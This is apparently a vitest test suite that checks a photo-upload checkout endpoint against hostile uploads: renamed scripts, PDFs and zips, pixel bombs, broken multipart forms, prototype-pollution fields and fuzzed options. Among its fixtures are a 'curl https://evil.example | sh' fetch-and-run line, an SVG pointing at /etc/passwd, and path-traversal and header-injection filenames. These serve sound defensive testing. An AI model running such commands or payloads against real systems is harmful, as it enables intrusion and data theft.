import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { ZCheckoutOptionsSchema } from '@/shared/contracts/checkout';
import { validAnswers } from '../support/answers';
import { buildTestApp, type TestApp } from './helpers/app';
import { expectEnvelope, expectHealthy, HOSTILE_TEXT, storedState, UNSTORABLE_TEXT } from './helpers/hostile';
import { checkoutForm, makePhotos, makePixelBomb } from './helpers/photos';
import { signInAs } from './helpers/session';

type FormFile = { bytes: Buffer; name?: string; type?: string };

/** A PNG whose header claims `width` x `height` pixels around a few hundred bytes of data. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(4096))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real zip archive (holding a real JPEG), as a customer might pick by mistake. */
function zipOf(entry: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const zip = new yazl.ZipFile();
    zip.addBuffer(entry, 'selfie.jpg');
    zip.end();
    const chunks: Buffer[] = [];
    zip.outputStream
      .on('data', (c: Buffer) => chunks.push(c))
      .on('end', () => resolve(Buffer.concat(chunks)))
      .on('error', reject);
  });
}

const PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="900" height="1200"><image xlink:href="file:///etc/passwd" width="900" height="1200"/></svg>',
);

async function filesNamed(dir: string, name: string, { recursive }: { recursive: boolean }): Promise<string[]> {
  const entries = await readdir(dir, { withFileTypes: true, recursive }).catch(() => []);
  return entries.filter((e) => e.name === name).map((e) => path.join(e.parentPath, e.name));
}

describe('[hostile] photo uploads to POST /v1/stripe/checkout/create', () => {
  let t: TestApp;
  let cookie: string;
  let photos: Buffer[];
  let six: () => FormFile[];

  beforeAll(async () => {
    t = await buildTestApp({ ROLE: 'web', RATE_LIMIT_PER_MINUTE: '1000000' });
    cookie = (await signInAs(t, 'uploader@example.com')).cookie;
    photos = await makePhotos(11);
    six = () => photos.slice(0, 6).map((bytes, i) => ({ bytes, name: `selfie-${i + 1}.jpg` }));
  });
  afterAll(() => t.close());

  const upload = (payload: Buffer | string, contentType: string) =>
    t.app.inject({
      method: 'POST',
      url: '/v1/stripe/checkout/create',
      headers: { cookie, 'content-type': contentType, 'sec-fetch-site': 'same-origin' },
      payload,
    });
  const sendForm = (body: { payload: Buffer; contentType: string }) => upload(body.payload, body.contentType);
  const form = (files: FormFile[], options: unknown = { portraitInfo: validAnswers() }) => checkoutForm(files, options);
  /** A raw multipart body built part by part (latin1 keeps file bytes intact), for forms a browser would never send. */
  const rawForm = (parts: string[], boundary = 'hostileBoundary') => ({
    payload: Buffer.from(`${parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('')}--${boundary}--\r\n`, 'latin1'),
    contentType: `multipart/form-data; boundary=${boundary}`,
  });
  const optionsPart = (value = JSON.stringify({ portraitInfo: validAnswers() }), headers = '') =>
    `Content-Disposition: form-data; name="options"\r\n${headers}\r\n${value}`;
  const filePart = (field: string, file: FormFile) =>
    `Content-Disposition: form-data; name="${field}"; filename="${file.name ?? 'selfie.jpg'}"\r\nContent-Type: ${file.type ?? 'image/jpeg'}\r\n\r\n${file.bytes.toString('latin1')}`;

  /** Sends a form that must be refused: the status, a message naming the problem, nothing stored. */
  async function expectRefused(body: { payload: Buffer | string; contentType: string }, status: number, message: RegExp | string) {
    const before = await storedState(t);
    const res = await upload(body.payload, body.contentType);
    const envelope = expectEnvelope(res);
    expect(res.statusCode).toBe(status);
    if (typeof message === 'string') expect(envelope.message).toBe(message);
    else expect(envelope.message).toMatch(message);
    expect(await storedState(t)).toEqual(before);
  }

  describe('files that are not photos', () => {
    it.each([
      ['a shell script renamed .jpg', async () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
      ['a PDF renamed .jpg', async () => PDF],
      ['a zip archive (holding a JPEG) renamed .jpg', async () => zipOf(photos[0]!)],
      ['an SVG that points at a local file, renamed .jpg', async () => SVG],
      ['a JPEG header followed by garbage', async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2048, 0x41)])],
    ])('refuses %s, naming the photo', async (_name, bytes) => {
      await expectRefused(
        form([...six().slice(0, 5), { bytes: await bytes(), name: 'me.jpg' }]),
        400,
        'Photo 6 (me.jpg) is not an image we can read (use JPG, PNG or WebP)',
      );
    });

    it.each([
      ['a decompression bomb sent first', async () => makePixelBomb(), 1],
      ['a 1 KB PNG claiming 65535 x 65535 pixels', async () => pngClaiming(65_535, 65_535), 6],
      ['a PNG claiming 1 x 4 billion pixels', async () => pngClaiming(1, 4_000_000_000), 6],
    ] as [string, () => Promise<Buffer>, number][])('refuses %s without decoding it', async (_name, bytes, position) => {
      const files = six();
      files[position - 1] = { bytes: await bytes(), name: 'bomb.png', type: 'image/png' };
      await expectRefused(form(files), 400, new RegExp(`^Photo ${position} \\(bomb\\.png\\) (has more than 40 megapixels|is not an image we can read)`));
    });

    it('refuses six 0-byte files, naming the first', async () => {
      await expectRefused(form(six().map((f) => ({ ...f, bytes: Buffer.alloc(0) }))), 400, 'Photo 1 (selfie-1.jpg) is empty');
    });

    it('refuses 11 files, one more than the limit', async () => {
      await expectRefused(form(photos.map((bytes) => ({ bytes }))), 400, 'Please upload at most 10 photos');
    });

    it('refuses a file that is not a photo under a traversal file name, naming only the base name', async () => {
      await expectRefused(
        form([...six().slice(0, 5), { bytes: PDF, name: '../../evil.jpg' }]),
        400,
        'Photo 6 (evil.jpg) is not an image we can read (use JPG, PNG or WebP)',
      );
    });
  });

  describe('broken and unexpected forms', () => {
    it('refuses a body cut off in the middle of a file', async () => {
      const whole = form(six());
      await expectRefused(
        { payload: whole.payload.subarray(0, Math.floor(whole.payload.length / 2)), contentType: whole.contentType },
        400,
        /^The upload is incomplete/,
      );
    });

    it('refuses a body missing its final boundary', async () => {
      const whole = form(six());
      const end = whole.payload.lastIndexOf('\r\n--');
      await expectRefused({ payload: whole.payload.subarray(0, end), contentType: whole.contentType }, 400, /^The upload is incomplete/);
    });

    it('refuses a body whose parts do not use the declared boundary', async () => {
      const whole = form(six());
      await expectRefused({ payload: whole.payload, contentType: 'multipart/form-data; boundary=somethingElse' }, 400, /^The upload is incomplete/);
    });

    it.each([
      ['no boundary', 'multipart/form-data'],
      ['an empty boundary', 'multipart/form-data; boundary='],
      ['a 300-character boundary', `multipart/form-data; boundary=${'b'.repeat(300)}`],
    ])('refuses a Content-Type with %s', async (_name, contentType) => {
      await expectRefused({ payload: form(six()).payload, contentType }, 400, 'The form has no usable multipart boundary in its Content-Type');
    });

    it.each([
      ['text/plain', 415, 'Send the photos and options as multipart/form-data'],
      ['application/octet-stream', 415, /^Unsupported content type: .*multipart\/form-data/],
      ['image/jpeg', 415, /^Unsupported content type: .*multipart\/form-data/],
      ['application/x-www-form-urlencoded', 415, /^Unsupported content type: .*multipart\/form-data/],
      ['application/json', 400, /^Malformed JSON body/],
    ] as [string, number, string | RegExp][])('refuses the form sent as %s', async (contentType, status, message) => {
      await expectRefused({ payload: form(six()).payload, contentType }, status, message);
    });

    it('refuses a form without options', async () => {
      await expectRefused(rawForm([`Content-Disposition: form-data; name="note"\r\n\r\nhello`]), 400, 'Invalid options: is required');
    });

    it('refuses options sent as a file (it is not read as options)', async () => {
      const options = { bytes: Buffer.from(JSON.stringify({ portraitInfo: validAnswers() })), name: 'options.json', type: 'application/json' };
      await expectRefused(rawForm([...six().map((f, i) => filePart(`file${i + 1}`, f)), filePart('options', options)]), 400, 'Invalid options: is required');
    });

    it('refuses options over 64 KB as too large', async () => {
      await expectRefused(form(six(), { portraitInfo: validAnswers({ name: 'x'.repeat(70_000) }) }), 413, 'Invalid options: is larger than 64 KB');
    });

    it('refuses options declared as JSON that are not JSON', async () => {
      await expectRefused(rawForm([optionsPart('{oops', 'Content-Type: application/json\r\n')]), 400, 'Invalid options: is not valid JSON');
    });

    it.each(['__proto__', 'constructor', 'hasOwnProperty'])('refuses a form field named %s', async (name) => {
      await expectRefused(
        rawForm([`Content-Disposition: form-data; name="${name}"\r\n\r\n{"isAdmin":true}`, optionsPart()]),
        400,
        /^A form field has a reserved name/,
      );
    });

    it('refuses a form with 20 fields', async () => {
      const fields = Array.from({ length: 20 }, (_, i) => `Content-Disposition: form-data; name="f${i}"\r\n\r\nx`);
      await expectRefused(rawForm([...fields, optionsPart()]), 413, 'Too many fields in the form');
    });

    // `name` is the one free-text answer; everything else must be an offered choice.
    it.each(Object.entries(UNSTORABLE_TEXT))('refuses options whose name holds %s, naming it', async (_what, value) => {
      await expectRefused(form(six(), { portraitInfo: validAnswers({ name: value }) }), 400, /^Invalid portraitInfo\.name: /);
    });

    it('refuses options with a __proto__ key inside portraitInfo', async () => {
      const options = JSON.stringify({ portraitInfo: validAnswers() }).replace('{"name"', '{"__proto__":{"package":"beta"},"name"');
      await expectRefused(form(six(), options), 400, 'Invalid portraitInfo: Unrecognized key: "__proto__"');
    });
  });

  describe('what an accepted upload keeps', () => {
    it('takes options declared as JSON, like a form built with a typed part', async () => {
      const res = await sendForm(rawForm([...six().map((f, i) => filePart(`file${i + 1}`, f)), optionsPart(undefined, 'Content-Type: application/json\r\n')]));
      expectEnvelope(res);
      expect(res.statusCode).toBe(200);
      expect(await t.app.ctx.files.count(`orders/${res.json().data.orderId}/selfies`)).toBe(6);
    });

    it('uses traversal file names only as labels: selfies are stored under server keys and nothing lands elsewhere', async () => {
      const names = [
        '../../evil.jpg',
        '..\\..\\evil.jpg',
        '/etc/passwd',
        '%2e%2e%2fevil.jpg',
        `${HOSTILE_TEXT['a right-to-left override']}.jpg`,
        'evil.jpg\r\nX-Injected: 1',
      ];
      const res = await sendForm(
        rawForm(
          six()
            .map((f, i) => filePart(`file${i + 1}`, { ...f, name: names[i] }))
            .concat(optionsPart()),
        ),
      );
      expectEnvelope(res);
      expect(res.statusCode).toBe(200);
      const { orderId } = res.json().data;
      const stored = (await storedState(t)).files.filter((f) => f.includes(orderId));
      expect(stored.sort()).toEqual([1, 2, 3, 4, 5, 6].map((n) => path.join('orders', orderId, 'selfies', `${n}.jpg`)));
      for (const [dir, recursive] of [
        [t.dataDir, true],
        [path.dirname(t.dataDir), false],
        [process.cwd(), false],
        [path.dirname(process.cwd()), false],
      ] as const) {
        expect(await filesNamed(dir, 'evil.jpg', { recursive })).toEqual([]);
        expect(await filesNamed(dir, 'passwd', { recursive })).toEqual([]);
      }
    });

    it('is still healthy and accepts a normal upload after the hostile ones', async () => {
      await expectHealthy(t, cookie);
      const res = await sendForm(form(six()));
      expect(res.statusCode).toBe(200);
      expect(res.json().data).toMatchObject({ provider: 'offline', clientSecret: expect.stringMatching(/^cs_offline_/) });
    });
  });

  describe('the options JSON, fuzzed', () => {
    let small: FormFile[];
    beforeAll(async () => {
      small = (await makePhotos(6)).map((bytes) => ({ bytes }));
    });

    const text = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 20 }),
      fc.constantFrom(...Object.values(HOSTILE_TEXT), ...Object.values(UNSTORABLE_TEXT)),
    );
    const anyValue = fc.oneof(text, fc.jsonValue({ maxDepth: 2 }), fc.array(text, { maxLength: 3 }));
    /** Each answer is the real one or anything at all, and may be missing. */
    const portraitInfo = fc.record(
      Object.fromEntries(
        Object.entries(validAnswers()).map(([key, real]) => [key, fc.oneof({ weight: 3, arbitrary: fc.constant(real) }, { weight: 2, arbitrary: anyValue })]),
      ),
      { requiredKeys: [] },
    );
    const extras = fc.dictionary(fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('price', 'userId', 'amountCents')), fc.jsonValue({ maxDepth: 1 }), {
      maxKeys: 2,
    });
    const options = fc.oneof(
      { weight: 4, arbitrary: portraitInfo.map((info) => JSON.stringify({ portraitInfo: info })) },
      { weight: 1, arbitrary: fc.tuple(portraitInfo, extras).map(([info, extra]) => JSON.stringify({ ...extra, portraitInfo: info })) },
      { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)) },
      { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
    );

    it('never fails, always answers the envelope, and stores nothing when it refuses', async () => {
      await fc.assert(
        fc.asyncProperty(options, async (optionsText) => {
          const before = await storedState(t);
          const res = await sendForm(checkoutForm(small, optionsText));
          const envelope = expectEnvelope(res, optionsText);
          let parsed: unknown;
          try {
            parsed = JSON.parse(optionsText);
          } catch {
            expect(res.statusCode).toBe(400);
            expect(envelope.message).toBe('Invalid options: is not valid JSON');
            return;
          }
          if (!ZCheckoutOptionsSchema.safeParse(parsed).success) {
            expect(res.statusCode).toBe(400);
            expect(envelope.message).toMatch(/^Invalid [\w.]+: /);
          }
          if (res.statusCode >= 400) {
            expect(await storedState(t)).toEqual(before);
          } else {
            expect(await t.app.ctx.files.count(`orders/${res.json().data.orderId}/selfies`)).toBe(6);
          }
        }),
        { numRuns: 150 },
      );
    });

    it('is still healthy and accepts a normal upload after the fuzzing', async () => {
      await expectHealthy(t, cookie);
      const res = await sendForm(checkoutForm(small, { portraitInfo: validAnswers({ package: 'basic' }) }));
      expect(res.statusCode).toBe(200);
      const meta = await sharp((await t.app.ctx.files.readBuffer(`orders/${res.json().data.orderId}/selfies/1.jpg`))!).metadata();
      expect(meta.format).toBe('jpeg');
    });
  });
});
